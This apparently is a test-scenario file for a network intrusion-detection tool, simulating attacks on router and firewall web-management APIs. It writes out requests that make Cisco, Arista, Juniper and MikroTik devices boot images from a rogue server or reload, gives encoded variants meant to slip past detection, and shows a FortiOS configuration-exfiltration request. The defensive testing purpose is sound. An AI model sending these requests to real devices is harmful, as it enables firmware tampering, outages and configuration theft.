"""BW07, BW05, BW18: orders by web management in clear, in each vendor's form and in any encoding."""

from __future__ import annotations

import json

from bootwarden.scenarios.model import Expect, Notice, scenario
from bootwarden.scenarios.sites import ADMIN, ATTACKER, BOOT_SERVER, DEVICE, HQ, IMAGE, ROGUE
from bootwarden.traffic import http
from bootwarden.traffic.wire import Wire

EVIL = f"tftp://{ROGUE}/evil.bin"
EAPI, IOS, WSMA, NXAPI, FORTIOS, JUNOS, ROUTEROS = range(1542007410, 1542007424, 2)
"""Sids of the rules about orders by each interface; those about reloads have the next."""
STRANGER = "10.20.6.6"
"""A host inside that is no device."""
BOOT = Notice("Boot_Command", DEVICE, ROGUE, "evil.bin")


def posted(value: object) -> bytes:
    """A body in JSON."""
    return json.dumps(value).encode()


@scenario("BW07", "malicious", raises=[("BW07", IOS, ATTACKER, DEVICE)], site=HQ, with_site=Expect((BOOT,)))
def bw07_web_ios_copy(wire: Wire) -> None:
    """IOS's browser interface: the words of a command as parts of the path."""
    path = f"/level/15/exec/-/copy/tftp:%2f%2f{ROGUE}%2fevil.bin/flash:/CR"
    http.order(wire, ATTACKER, DEVICE, path)


@scenario(
    "BW07",
    "malicious",
    raises=[("BW07", IOS, ATTACKER, DEVICE)] * 2,
    site=HQ,
    with_site=Expect((Notice("Boot_Command", DEVICE, None, "startup-config"), BOOT)),
)
def bw07_web_ios_encoded(wire: Wire) -> None:
    """The same, each letter encoded; a level that IOS does not check; slashes that are not encoded at all."""
    word = "".join(f"%{ord(letter):02X}" for letter in "tftp-server")
    http.order(wire, ATTACKER, DEVICE, f"/level/16/configure/-/{word}/nvram:startup-config/CR")
    http.order(wire, ATTACKER, DEVICE, f"/level/15/configure/-/boot/system/{EVIL}", client_port=50181)


@scenario(
    "BW07",
    "malicious",
    # Rules look for the rest as it is mostly written.
    raises=[("BW07", IOS, ATTACKER, "10.0.1.1"), ("BW05", IOS + 1, ATTACKER, "10.0.1.7")],
    site=HQ,
    with_site=Expect(
        (
            *(Notice("Boot_Command", f"10.0.1.{last}", ROGUE, "evil.bin") for last in (1, 2, 3, 4, 5, 6)),
            Notice("Remote_Reload", "10.0.1.7"),
        )
    ),
)
def bw07_web_written_otherwise(wire: Wire) -> None:
    """The URL whole, as for a proxy; a form's field, in a body and in a query; CDATA; a query's arguments; letters by
    their numbers, the API's own words included; a path with empty parts.
    """
    path = f"/level/15/exec/-/copy/tftp:%2f%2f{ROGUE}%2fevil.bin/flash:/CR"
    http.order(wire, ATTACKER, "10.0.1.1", "http://10.0.1.1" + path)
    form = f"command=copy+tftp%3A%2F%2F{ROGUE}%2Fevil.bin+flash%3A&command_url=%2Flevel%2F15%2Fexec%2F-"
    kind = "application/x-www-form-urlencoded"
    http.order(wire, ATTACKER, "10.0.1.2", "/level/15/exec/-/configure/http", form.encode(), kind=kind)
    http.order(wire, ATTACKER, "10.0.1.3", f"/level/15/exec/-?{form}")
    wsma = f"<cmd><![CDATA[copy {EVIL} flash:]]></cmd>"
    soap = f'<request xmlns="urn:cisco:wsma-exec"><execCLI>{wsma}</execCLI></request>'
    http.order(wire, ATTACKER, "10.0.1.4", "/wsma", soap.encode(), kind="text/xml")
    package = f"ftp%3A%2F%2F{ROGUE}%2Fevil.bin"
    http.order(wire, ATTACKER, "10.0.1.5", f"/rpc/request-package-add?package-name={package}")
    command = rf"\u0063opy tftp:\/\/{ROGUE}\/evil.bin flash:"
    letters = r'{"method": "\u0072unCmds", "params": {"\u0063mds": ["' + command + '"]}}'
    http.order(wire, ATTACKER, "10.0.1.6", "/command-api", letters.encode())
    http.order(wire, ATTACKER, "10.0.1.7", "/./level/15//exec/-/reload/CR")


@scenario(
    "BW07",
    "malicious",
    raises=[
        ("BW07", sid, ATTACKER, f"10.0.1.{last}")
        for last, sid in enumerate((EAPI, EAPI, NXAPI, NXAPI, NXAPI, WSMA, ROUTEROS), 1)
    ],
    site=HQ,
    with_site=Expect(
        tuple(Notice("Boot_Command", f"10.0.1.{last}", ROGUE, "evil.bin") for last in (1, 2, 3, 4, 5, 6, 7))
    ),
)
def bw07_web_apis(wire: Wire) -> None:
    """eAPI, NX-API (three forms), WSMA, and RouterOS REST: a boot order in the body of each."""
    eapi = {"jsonrpc": "2.0", "method": "runCmds", "params": {"version": 1, "cmds": ["enable", f"boot system {EVIL}"]}}
    http.order(wire, ATTACKER, "10.0.1.1", "/command-api", posted(eapi))
    with_input = {"cmds": [{"cmd": "configure"}, {"cmd": f"copy {EVIL} flash:", "input": ""}]}
    slashes = posted({"method": "runCmds", "params": with_input}).replace(b"/", b"\\/")
    http.order(wire, ATTACKER, "10.0.1.2", "/command-api", slashes, mss=64)
    form = {"ins_api": {"version": "1.0", "type": "cli_conf", "input": f"conf t ;boot nxos {EVIL}"}}
    http.order(wire, ATTACKER, "10.0.1.3", "/ins", posted(form))
    xml = f"<?xml version='1.0'?><ins_api><type>cli_conf</type><input>boot nxos {EVIL}</input></ins_api>"
    http.order(wire, ATTACKER, "10.0.1.4", "/ins", xml.encode(), kind="text/xml")
    rpc = [{"jsonrpc": "2.0", "method": "cli", "params": {"cmd": f"boot nxos {EVIL}", "version": 1}, "id": 1}]
    http.order(wire, ATTACKER, "10.0.1.5", "/ins", posted(rpc), kind="application/json-rpc")
    soap = (
        '<SOAP:Envelope xmlns:SOAP="http://schemas.xmlsoap.org/soap/envelope/"><SOAP:Body>'
        '<request xmlns="urn:cisco:wsma-config" correlator="1"><configApply><config-data><cli-config-data>'
        f"<cmd>boot system {EVIL}</cmd></cli-config-data></config-data></configApply></request>"
        "</SOAP:Body></SOAP:Envelope>"
    )
    http.order(wire, ATTACKER, "10.0.1.6", "/%2577ebui_wsma_http", soap.encode(), kind="text/xml")
    http.order(wire, ATTACKER, "10.0.1.7", "/rest/tool/fetch", posted({"url": EVIL, "dst-path": "evil.bin"}))


@scenario(
    "BW05",
    "malicious",
    raises=[
        *(("BW05", sid + 1, ATTACKER, f"10.0.1.{last}") for last, sid in enumerate((IOS, EAPI, ROUTEROS, JUNOS), 1)),
        ("BW05", 1542007461, ATTACKER, "10.0.1.5"),
    ],
    site=HQ,
    with_site=Expect(tuple(Notice("Remote_Reload", f"10.0.1.{last}") for last in (1, 2, 3, 4, 5))),
)
def bw05_web_reloads(wire: Wire) -> None:
    """A reload by IOS's browser interface, eAPI, RouterOS REST and Junos REST."""
    http.order(wire, ATTACKER, "10.0.1.1", "/level/15/exec/-/reload/CR")
    eapi = {"jsonrpc": "2.0", "method": "runCmds", "params": {"version": 1, "cmds": ["enable", "reload now"]}}
    http.order(wire, ATTACKER, "10.0.1.2", "/command-api", posted(eapi))
    http.order(wire, ATTACKER, "10.0.1.3", "/rest/system/reboot", b"")
    http.order(wire, ATTACKER, "10.0.1.4", "/rpc/request-reboot", b"", kind="application/xml")
    http.order(wire, ATTACKER, "10.0.1.5", "/rpc", b"<request-reboot/>", kind="application/xml")


@scenario(
    "BW05",
    "malicious",
    raises=[("BW05", WSMA + 1, ATTACKER, "10.0.1.1"), ("BW05", NXAPI + 1, ATTACKER, "10.0.1.2")],
    site=HQ,
    with_site=Expect((Notice("Remote_Reload", "10.0.1.1"), Notice("Remote_Reload", "10.0.1.2"))),
)
def bw05_web_reloads_of_cisco(wire: Wire) -> None:
    """A reload by WSMA and by NX-API."""
    soap = (
        '<SOAP:Envelope xmlns:SOAP="http://schemas.xmlsoap.org/soap/envelope/"><SOAP:Body>'
        '<request xmlns="urn:cisco:wsma-exec" correlator="2"><execCLI><cmd>reload</cmd></execCLI></request>'
        "</SOAP:Body></SOAP:Envelope>"
    )
    http.order(wire, ATTACKER, "10.0.1.1", "/webui_wsma_http", soap.encode(), kind="text/xml")
    form = {"ins_api": {"version": "1.0", "type": "cli_conf", "input": "reload"}}
    http.order(wire, ATTACKER, "10.0.1.2", "/ins", posted(form))


@scenario(
    "BW07",
    "malicious",
    raises=[("BW07", JUNOS, ATTACKER, DEVICE)],
    site=HQ,
    with_site=Expect((Notice("Boot_Command", DEVICE, ROGUE, "evil.tgz"),)),
)
def bw07_web_junos_package(wire: Wire) -> None:
    """Junos REST: a package is added from a rogue server."""
    rpc = f"<package-name>ftp://{ROGUE}/evil.tgz</package-name><no-validate/>"
    http.order(wire, ATTACKER, DEVICE, "/rpc/request-package-add", rpc.encode(), kind="application/xml")


@scenario(
    "BW18",
    "malicious",
    raises=[("BW18", FORTIOS, STRANGER, DEVICE)],
    site=HQ,
    with_site=Expect((Notice("Config_Exfiltration", DEVICE, STRANGER),)),
)
def bw18_web_fortios_backup(wire: Wire) -> None:
    """FortiOS hands its configuration to whoever has a session."""
    path = "/api/v2/monitor/system/config/backup?scope=global"
    http.order(wire, STRANGER, DEVICE, path, answer=b"#config-version=FGT60E-7.2.5\nconfig system global\nend\n")


@scenario(
    "BW07",
    "benign",
    raises=[("BW07", IOS, ADMIN, DEVICE)],
    raises_with_site=[],
    site=HQ,
    with_site=Expect(),
)
def bw07_web_daily_work(wire: Wire) -> None:
    """Administrators ask what there is, fetch what is approved, and read pages that quote such requests."""
    http.order(wire, ADMIN, DEVICE, "/level/15/exec/-/show/running-config/CR")
    http.order(
        wire, ADMIN, DEVICE, f"/level/15/exec/-/copy/tftp:%2f%2f{BOOT_SERVER}%2f{IMAGE}/flash:/CR", client_port=50181
    )
    shows = {"jsonrpc": "2.0", "method": "runCmds", "params": {"cmds": ["show version", "show reload cause"]}}
    http.order(wire, ADMIN, DEVICE, "/command-api", posted(shows), client_port=50182)
    page = f"<html><pre>GET /level/15/exec/-/copy/{EVIL}/flash:/CR</pre><p>boot system {EVIL}</p></html>"
    http.get(wire, DEVICE, BOOT_SERVER, "/wiki/level/15.html", page.encode(), kind="text/html")
    wiki = posted({"text": f"how to: boot system {EVIL}", "method": "runCmds"})
    http.order(wire, "10.20.1.5", "10.20.0.80", "/wiki/edit", wiki)
    http.order(wire, ATTACKER, "10.20.0.80", f"/search?q=/level/15/exec/-/copy/{EVIL}", client_port=50183)
